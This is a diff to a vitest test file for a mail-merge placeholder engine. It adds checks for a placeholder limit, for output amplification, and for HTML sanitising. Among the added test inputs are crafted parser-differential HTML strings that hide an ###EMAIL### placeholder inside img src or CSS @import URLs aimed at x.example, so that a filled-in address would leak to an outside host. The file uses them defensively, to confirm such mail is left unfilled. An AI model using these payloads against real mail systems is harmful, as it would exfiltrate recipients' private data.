@@ -1,5 +1,6 @@
 import { describe, expect, test } from "vitest";
 import type { ComposePolicy } from "../../src/journey/placeholders/fields.ts";
+import { MOST_PLACEHOLDERS } from "../../src/journey/placeholders/layout.ts";
 import { surveyPlaceholders } from "../../src/journey/placeholders.ts";
 import { anna, compose, filled, mail, person, sampleOrder, textMail, urs } from "./compose-sample.ts";
 
@@ -15,6 +16,7 @@ describe("what is a placeholder", () => {
     expect(survey("###vorname### ###Vorname### ###_SALUTATION### ###ort|dort###")).toEqual({
       known: ["VORNAME", "_SALUTATION", "ORT"],
       unknown: [],
+      tooMany: false,
       inSealedPart: [],
     });
   });
@@ -43,7 +45,7 @@ describe("what is a placeholder", () => {
     `###${"X".repeat(101)}###`,
     "###Wichtig: bitte lesen###",
   ])("%j is none, and stays", (text) => {
-    expect(survey(text)).toEqual({ known: [], unknown: [], inSealedPart: [] });
+    expect(survey(text)).toEqual({ known: [], unknown: [], tooMany: false, inSealedPart: [] });
     expect(filled(text)).toBe(text.replaceAll("\n", "\r\n"));
   });
 
@@ -80,7 +82,7 @@ Subject: ###VORNAME###
 --b--
 `,
     );
-    expect(surveyPlaceholders(raw, leader)).toEqual({ known: [], unknown: [], inSealedPart: [] });
+    expect(surveyPlaceholders(raw, leader)).toEqual({ known: [], unknown: [], tooMany: false, inSealedPart: [] });
     expect(compose(raw).toString("latin1")).not.toContain("Anna\r\n--b");
   });
 });
@@ -90,6 +92,7 @@ describe("what an author may use", () => {
     expect(survey("###VORNAME### ###ORT###", member)).toEqual({
       known: ["VORNAME"],
       unknown: [{ placeholder: "ORT", nearest: null }],
+      tooMany: false,
       inSealedPart: [],
     });
   });
@@ -120,11 +123,39 @@ describe("what an author may use", () => {
     '<p "x" = title="###EMAIL###">x</p>',
     '<!-- --!><img src="https://x.example/###EMAIL###">',
     '<!--><img src="https://x.example/###EMAIL###">',
+    // What is the title or a style sheet for one reader, is for another a picture to fetch.
+    '<title><!--</title><img src="https://x.example/?--><b>###EMAIL###</b>">',
+    '<svg><title><img src="https://x.example/?</title>###EMAIL###">',
+    '<textarea><a title="</textarea>###EMAIL###">',
+    '<style>@import url("https://x.example/?</stylex>###EMAIL###");</style>',
+    '<frameset><style><frame src="https://x.example/?</style>###EMAIL###">',
+    '<!--[if x]><style>--><img src="https://x.example/?</style>###EMAIL###">',
+    "<!--[if x]><a title=\"--><img src='https://x.example/?\">###EMAIL###'>",
+    "<!--!> <a title=\"--><img src='https://x.example/?\">###EMAIL###'>",
+    '<svg><![CDATA[><img src="https://x.example/?]]>###EMAIL###">',
+    '<b title=\x0b"><img src="> ###EMAIL### ">',
+    '<b title=\u00a0"><img src="> ###EMAIL### ">',
+    '<img src="https://x.example/?\x1b$B">###EMAIL### \x1b(B">',
+    '<script><!--<script></script><img src="https://x.example/?###EMAIL###">',
   ])("a member cannot have %j replaced, a leader can", (html) => {
     expect(survey(html, member, "html").unknown).toEqual([{ placeholder: "EMAIL", nearest: null }]);
     expect(filled(html, [anna], { type: "html", order: sampleOrder({ policy: member }) })).toBe(html);
     expect(filled(html, [anna], { type: "html" })).not.toContain("###EMAIL###");
   });
+});
+
+test.each([
+  "<style><!-- p{} --></style>###EMAIL###",
+  "<style>a::before{content:'<b>'}</style>###EMAIL###",
+  "<title>Lager</title>###EMAIL###",
+  "<!--[if gte mso 9]><xml><o:x/></xml><style>p{}</style><![endif]-->###EMAIL###",
+  "<!--[if !mso]><!-->###EMAIL###<!--<![endif]-->",
+  "<!--[if !mso]> -->###EMAIL###<!-- <![endif]-->",
+  "<script><!--\nx()\n//--></script>###EMAIL###",
+  "<p>a < b, ###EMAIL###</p>",
+])("what mail programs write is no reason to keep a member's %j unread", (html) => {
+  const order = sampleOrder({ policy: member });
+  expect(filled(html, [anna], { type: "html", order })).toContain("familie@post.example");
 });
 
 describe("signed and encrypted parts", () => {
@@ -150,7 +181,7 @@ x
 
   test("clear-signed text is sealed as well", () => {
     const text = "-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\n###VORNAME###\n-----BEGIN PGP SIGNATURE-----\n";
-    expect(survey(text)).toEqual({ known: [], unknown: [], inSealedPart: ["VORNAME"] });
+    expect(survey(text)).toEqual({ known: [], unknown: [], tooMany: false, inSealedPart: ["VORNAME"] });
     expect(filled(text)).toContain("###VORNAME###");
   });
 });
@@ -158,6 +189,31 @@ x
 test("of a hundred thousand unknown placeholders the first twenty are told", () => {
   const unknown = survey(Array.from({ length: 100_000 }, (_, i) => `###V${i}###`).join(" ")).unknown;
   expect(unknown.map(({ placeholder }) => placeholder)).toEqual(Array.from({ length: 20 }, (_, i) => `V${i}`));
+});
+
+describe("a mail of too many placeholders", () => {
+  const many = "###ORT### ".repeat(MOST_PLACEHOLDERS + 1);
+
+  test("is told, and one of many is not", () => {
+    expect(survey(many).tooMany).toBe(true);
+    expect(survey(many.slice("###ORT### ".length)).tooMany).toBe(false);
+    expect(survey("###V### ".repeat(9_000)).tooMany).toBe(false);
+    expect(survey("###V### ".repeat(10_000)).tooMany).toBe(true);
+  });
+
+  test("cannot blow up a copy: what is beyond the limit stays as it is", () => {
+    const rich = person({ fields: { ORT: "x".repeat(10_000) } });
+    const text = "###ORT### ".repeat(100_000);
+    const copy = filled(text, [rich]);
+    expect(copy.length).toBe(MOST_PLACEHOLDERS * (10_000 - "###ORT###".length) + text.length);
+  });
+
+  test("nor can the values of many persons together", () => {
+    const crowd = Array.from({ length: 50 }, (_, place) =>
+      person({ person: place, fields: { ORT: `${place}${"x".repeat(9_000)}` } }),
+    );
+    expect(filled("###ORT###", crowd).length).toBeLessThan(11_000);
+  });
 });
 
 test("a value that looks like a placeholder is not read again", () => {
